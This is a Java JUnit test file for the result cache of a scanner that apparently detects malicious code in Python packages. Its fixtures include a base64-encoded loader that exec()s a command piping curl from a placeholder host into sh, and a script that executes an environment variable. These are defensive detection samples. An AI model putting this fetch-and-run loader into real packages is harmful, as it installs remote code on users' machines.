package dev.kingsnake.internal.engine;

import dev.kingsnake.Confidence;
import dev.kingsnake.Finding;
import dev.kingsnake.Limits;
import dev.kingsnake.ScanResult;
import dev.kingsnake.Severity;
import dev.kingsnake.internal.archive.TestArchives;
import dev.kingsnake.internal.archive.TestArchives.Member;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.Rule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.python.Expr;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.util.List;
import java.util.Optional;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A file found in the per-file result cache gets exactly the findings a fresh engine gives it, and a file whose
 * results depend on more than its bytes, place and package kind is never taken from the cache.
 */
class FileResultCacheTest {
    private static final String EXEC = "import os\n\ndef run(x):\n    exec(x)\n\nexec(os.environ['X'])\n";

    /** Reports each call by its resolved name, with the reach: depends on the file alone. */
    static final class Calls implements PythonFileRule {
        private static final RuleInfo INFO = new RuleInfo("KS-TEST-CALLS", "calls", Severity.HIGH, Confidence.HIGH,
                Set.of(Tags.EXECUTE), "exec(x)", "test rule");

        @Override
        public RuleInfo info() {
            return INFO;
        }

        @Override
        public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
            for (Expr.Call c : file.calls()) {
                file.calleeName(c).ifPresent(n -> sink.report(Location.of(file, c), n + " " + file.reach(c), n));
            }
        }
    }

    /** Names the package in each file's finding: reads the package context. */
    static final class PackageName implements PythonFileRule {
        private static final RuleInfo INFO = new RuleInfo("KS-TEST-NAME", "package name", Severity.LOW,
                Confidence.LOW, Set.of(Tags.METADATA), "-", "test rule");

        @Override
        public RuleInfo info() {
            return INFO;
        }

        @Override
        public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
            sink.report(Location.file(file, dev.kingsnake.Reach.UNKNOWN), "in " + ctx.packageInfo().name(), "");
        }
    }

    private static final List<Rule> CONTEXT_FREE = List.of(new Calls());

    private static ScanResult scan(ScanEngine engine, String name, List<Member> members, boolean wheel) {
        byte[] archive = wheel ? TestArchives.zip(members) : TestArchives.gzip(TestArchives.tar(members));
        return engine.scan(name, new ByteArrayInputStream(archive));
    }

    private static ScanEngine engine(List<Rule> rules) {
        return new ScanEngine(Limits.defaults(), rules, 5.0, 2.5, Optional.empty());
    }

    private static List<Member> sdist(String root, String path, String text) {
        return List.of(Member.file(root + "/setup.py", "from setuptools import setup\nsetup(name='x')\n"),
                Member.file(root + "/PKG-INFO", "Metadata-Version: 2.1\nName: " + root + "\nVersion: 1.0\n"),
                Member.file(root + "/" + path, text));
    }

    @Test
    void aRepeatedFileGetsTheFindingsOfAFreshScan() {
        ScanEngine warm = engine(CONTEXT_FREE);
        scan(warm, "first-1.0.tar.gz", sdist("first-1.0", "lib/run.py", EXEC), false);
        long hitsBefore = warm.fileResultHits();
        ScanResult reused = scan(warm, "second-2.0.tar.gz", sdist("second-2.0", "lib/run.py", EXEC), false);
        ScanResult fresh = scan(engine(CONTEXT_FREE), "second-2.0.tar.gz", sdist("second-2.0", "lib/run.py", EXEC),
                false);
        assertTrue(warm.fileResultHits() - hitsBefore >= 2, "run.py and setup.py repeat: both should be hits");
        assertEquals(fresh.findings(), reused.findings());
        assertEquals(fresh.score(), reused.score());
        assertEquals(fresh.diagnostics(), reused.diagnostics());
        assertTrue(reused.findings().stream().map(Finding::file).anyMatch("second-2.0/lib/run.py"::equals));
        assertFalse(reused.findings().stream().anyMatch(f -> f.file().startsWith("first-1.0")));
    }

    @Test
    void anotherPlaceOrPackageKindIsAMiss() {
        ScanEngine warm = engine(CONTEXT_FREE);
        scan(warm, "first-1.0.tar.gz", sdist("first-1.0", "lib/run.py", EXEC), false);
        long hits = warm.fileResultHits();
        // the same bytes as setup.py run at install time: another place, another reach
        ScanResult moved = scan(warm, "second-1.0.tar.gz",
                List.of(Member.file("second-1.0/setup.py", EXEC)), false);
        // the same place in a wheel, which is not built on install
        ScanResult wheel = scan(warm, "third-1.0-py3-none-any.whl", List.of(Member.file("lib/run.py", EXEC),
                Member.file("third-1.0.dist-info/METADATA", "Name: third\nVersion: 1.0\n")), true);
        assertEquals(hits, warm.fileResultHits());
        assertEquals(scan(engine(CONTEXT_FREE), "second-1.0.tar.gz",
                List.of(Member.file("second-1.0/setup.py", EXEC)), false).findings(), moved.findings());
        assertEquals(scan(engine(CONTEXT_FREE), "third-1.0-py3-none-any.whl", List.of(Member.file("lib/run.py", EXEC),
                Member.file("third-1.0.dist-info/METADATA", "Name: third\nVersion: 1.0\n")), true).findings(),
                wheel.findings());
    }

    @Test
    void aRuleThatReadsThePackageKeepsTheFileOutOfTheCache() {
        List<Rule> rules = List.of(new Calls(), new PackageName());
        ScanEngine warm = engine(rules);
        scan(warm, "first-1.0.tar.gz", sdist("first-1.0", "lib/run.py", EXEC), false);
        ScanResult second = scan(warm, "second-2.0.tar.gz", sdist("second-2.0", "lib/run.py", EXEC), false);
        assertEquals(0, warm.fileResultHits());
        assertTrue(second.findings().stream().anyMatch(f -> f.message().equals("in second-2.0")), "" + second);
        assertFalse(second.findings().stream().anyMatch(f -> f.message().equals("in first-1.0")));
    }

    @Test
    void aFileWhoseDecodingFindsALayerIsNotReused() {
        String payload = java.util.Base64.getEncoder().encodeToString(
                "import os\nos.system('curl https://example.invalid/x | sh')\n".getBytes());
        String loader = "import base64\nexec(base64.b64decode('" + payload + "'))\n";
        ScanEngine warm = engine(CONTEXT_FREE);
        ScanResult first = scan(warm, "first-1.0.tar.gz", sdist("first-1.0", "lib/load.py", loader), false);
        assertTrue(first.findings().stream().anyMatch(f -> f.file().contains("#layer")), "" + first.findings());
        long hits = warm.fileResultHits();
        ScanResult second = scan(warm, "second-2.0.tar.gz", sdist("second-2.0", "lib/load.py", loader), false);
        assertEquals(hits + 1, warm.fileResultHits(), "only setup.py repeats from the cache");
        assertEquals(scan(engine(CONTEXT_FREE), "second-2.0.tar.gz", sdist("second-2.0", "lib/load.py", loader),
                false).findings(), second.findings());
    }

    @Test
    void aFileIsReusedOnlyWhereItsImportedModulesAreTheSame() {
        String loader = "import base64\nfrom .table import DATA\nexec(base64.b64decode(DATA))\n";
        String payload = java.util.Base64.getEncoder().encodeToString(
                "import os\nos.system('curl https://example.invalid/x | sh')\n".getBytes());
        List<Member> harmless = List.of(Member.file("a-1.0/lib/load.py", loader),
                Member.file("a-1.0/lib/table.py", "DATA = 42\n"));
        List<Member> harmful = List.of(Member.file("b-1.0/lib/load.py", loader),
                Member.file("b-1.0/lib/table.py", "DATA = '" + payload + "'\n"));
        ScanEngine warm = engine(CONTEXT_FREE);
        scan(warm, "a-1.0.tar.gz", harmless, false);
        ScanResult reused = scan(warm, "b-1.0.tar.gz", harmful, false);
        ScanResult fresh = scan(engine(CONTEXT_FREE), "b-1.0.tar.gz", harmful, false);
        assertTrue(fresh.findings().stream().anyMatch(f -> f.file().equals("b-1.0/lib/load.py#layer1")),
                "the loader decodes its sibling's payload: " + fresh.findings());
        assertEquals(fresh.findings(), reused.findings());
        long hits = warm.fileResultHits();
        List<Member> sameAsFirst = List.of(Member.file("c-1.0/lib/load.py", loader),
                Member.file("c-1.0/lib/table.py", "DATA = 42\n"));
        ScanResult again = scan(warm, "c-1.0.tar.gz", sameAsFirst, false);
        assertEquals(hits + 2, warm.fileResultHits(), "the loader and its table, the same as in a-1.0");
        assertEquals(scan(engine(CONTEXT_FREE), "c-1.0.tar.gz", sameAsFirst, false).findings(), again.findings());
    }

    @Test
    void aPathTwiceInOnePackageIsNeverLookedUp() {
        ScanEngine warm = engine(CONTEXT_FREE);
        scan(warm, "first-1.0.tar.gz", sdist("first-1.0", "lib/run.py", EXEC), false);
        long lookUps = warm.fileResultLookUps();
        List<Member> twice = List.of(Member.file("second-1.0/lib/run.py", EXEC),
                Member.file("second-1.0/lib/run.py", "print('the copy an installer keeps')\n"));
        ScanResult result = scan(warm, "second-1.0.tar.gz", twice, false);
        assertEquals(lookUps, warm.fileResultLookUps());
        assertEquals(scan(engine(CONTEXT_FREE), "second-1.0.tar.gz", twice, false).findings(), result.findings());
    }

    @Test
    void theCacheKeepsNoMoreSourceThanItsBound() {
        FileResultCache cache = new FileResultCache(100);
        FileResultCache.Entry sixty = new FileResultCache.Entry(null, List.of(), java.util.Map.of(), 60);
        cache.put(new FileResultCache.Key("a", "x.py", true), sixty);
        cache.put(new FileResultCache.Key("b", "x.py", true), sixty);
        assertTrue(cache.get(new FileResultCache.Key("a", "x.py", true)).isEmpty(), "the eldest goes first");
        assertTrue(cache.get(new FileResultCache.Key("b", "x.py", true)).isPresent());
        cache.put(new FileResultCache.Key("c", "x.py", true), new FileResultCache.Entry(null, List.of(), java.util.Map.of(), 101));
        assertTrue(cache.get(new FileResultCache.Key("c", "x.py", true)).isEmpty(), "larger than the bound");
    }
}
